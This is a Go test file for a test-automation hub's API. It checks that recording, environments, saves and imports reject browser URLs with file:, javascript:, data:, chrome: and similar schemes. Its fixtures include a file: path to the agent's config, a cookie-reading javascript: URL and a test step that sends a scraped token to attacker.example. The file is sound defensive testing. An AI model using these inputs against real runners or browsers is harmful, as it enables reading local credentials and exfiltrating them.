package api

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/testautomation/ta/hub/access"
	"github.com/testautomation/ta/protocol"
)

// Issue 26, finding 1a: a test may send the browser only to http:, https:
// and about:blank. These addresses read the runner's files or the
// browser's internals, or run code as a page; each is written the ways a
// browser still reads it.
var refusedStarts = []string{
	"file:///home/ann/.config/ta-agent/agent.json", "FILE:///etc/", "  JaVa\tScript:alert(document.cookie)",
	"view-source:https://shop.example.com/", "data:text/html,<script>alert(1)</script>", "chrome://settings",
	"filesystem:https://shop.example.com/temporary/a.txt", "devtools://devtools/bundled/inspector.html",
}

// wantIssue fails unless r is a 422 with an issue at path with code.
func wantIssue(t *testing.T, r response, path, code string) {
	t.Helper()
	r.want(t, 422)
	var body struct{ Issues []Issue }
	_ = json.Unmarshal(r.body, &body)
	if !slices.ContainsFunc(body.Issues, func(is Issue) bool { return is.Path == path && is.Code == code }) {
		t.Errorf("want an issue %s %s: %s", path, code, r.body)
	}
}

// TestAuthoringRefusesSchemes: recording, picking and trying a script
// never start at such an address; nothing reaches the agent.
func TestAuthoringRefusesSchemes(t *testing.T) {
	w := newAuthorWorld(t)
	for _, u := range refusedStarts {
		for _, route := range []string{"/api/record/start", "/api/pick/start", "/api/scripts/try"} {
			r := w.p(w.o.owner, "POST", route, obj{"url": u, "environmentId": w.env, "code": "return document.body.innerText"})
			wantIssue(t, r, "url", protocol.CodeURLScheme)
			if !strings.Contains(string(r.body), protocol.OpenRule) {
				t.Errorf("%s %q: the refusal does not say why: %s", route, u, r.body)
			}
		}
	}
	// The first message the agent gets is the start that was allowed.
	w.p(w.o.owner, "POST", "/api/record/start", obj{"url": "/ok", "environmentId": w.env}).want(t, 201)
	if u := w.agent.expect(protocol.MsgAuthorStart).Start.URL; u != "https://shop.example.com/ok" {
		t.Errorf("the agent was asked to open %q", u)
	}
}

// TestEnvironmentBaseURLScheme: every relative navigate of a run goes to
// the environment's baseUrl, so it may not be such an address either.
func TestEnvironmentBaseURLScheme(t *testing.T) {
	h := newHarness(t)
	o := h.org(t)
	c := o.members[access.TestManager]
	env := c.projectDo(o.project, "POST", "/api/environments", obj{"name": "Staging", "variables": obj{"baseUrl": "http://127.0.0.1:3000"}}).want(t, 201).str("id")
	for _, u := range refusedStarts {
		r := c.projectDo(o.project, "POST", "/api/environments", obj{"name": "Evil", "variables": obj{"baseUrl": u}})
		wantIssue(t, r, "variables.baseUrl", protocol.CodeURLScheme)
		r = c.projectDo(o.project, "POST", "/api/environments", obj{"id": env, "name": "Staging", "variables": obj{"baseUrl": u}})
		wantIssue(t, r, "variables.baseUrl", protocol.CodeURLScheme)
	}
	list := c.projectDo(o.project, "GET", "/api/environments", nil).want(t, 200)
	if strings.Contains(string(list.body), "Evil") || !strings.Contains(string(list.body), `"baseUrl":"http://127.0.0.1:3000"`) {
		t.Errorf("a refused environment changed something: %s", list.body)
	}
}

// TestSaveAndImportRefuseSchemes: a test whose navigate opens such an
// address is not saved, whichever way it comes; the issue names the step.
func TestSaveAndImportRefuseSchemes(t *testing.T) {
	h := newHarness(t)
	o := h.org(t)
	c := o.members[access.Tester]
	p := func(method, path string, body any) response { return c.projectDo(o.project, method, path, body) }
	doc := func(u string) obj {
		return obj{"dsl": 2, "name": "Leak", "steps": []any{
			obj{"id": "s1", "type": "navigate", "url": "https://shop.example.com/"},
			obj{"id": "s2", "type": "navigate", "url": u},
			obj{"id": "s3", "type": "setVariable", "name": "tok", "target": obj{"locators": []any{obj{"kind": "css", "value": "body"}}}},
			obj{"id": "s4", "type": "navigate", "url": "http://attacker.example/?d=${tok}"}}}
	}
	id := c.createTest(t, o.project, doc("/fine"))
	for _, u := range refusedStarts {
		wantIssue(t, p("POST", "/api/tests", doc(u)), "steps[1].url", protocol.CodeURLScheme)
		wantIssue(t, p("PUT", "/api/tests/"+id, doc(u)), "steps[1].url", protocol.CodeURLScheme)
		wantIssue(t, p("POST", "/api/tests/import", doc(u)), "steps[1].url", protocol.CodeURLScheme)
		wantIssue(t, p("POST", "/api/tests/import", obj{"version": 1, "name": "Legacy", "steps": []any{
			obj{"command": "open", "target": u}}}), "steps[0].url", protocol.CodeURLScheme)
		wantIssue(t, p("POST", "/api/tests/import", obj{"name": "Shop", "url": "https://shop.example.com", "tests": []any{
			obj{"id": "t1", "name": "Leak", "commands": []any{obj{"command": "open", "target": u}}}}}),
			"tests[0].commands[0].target", protocol.CodeURLScheme)
		if r := p("POST", "/api/tests/"+id+"/validate", doc(u)).want(t, 200).json(); r["valid"] != false {
			t.Errorf("validate %q: %v", u, r)
		}
	}
	// A .side project's url is where its relative opens go.
	wantIssue(t, p("POST", "/api/tests/import", obj{"name": "Shop", "url": "file:///home/ann/", "tests": []any{
		obj{"id": "t1", "name": "Leak", "commands": []any{obj{"command": "open", "target": "/.config/ta-agent/agent.json"}}}}}),
		"tests[0].commands[0].target", protocol.CodeURLScheme)
	list := p("GET", "/api/tests", nil).want(t, 200).json()
	if num(list["total"]) != 1 || c.test(t, id)["version"] != float64(1) {
		t.Errorf("a refused save changed something: %v", list)
	}
}
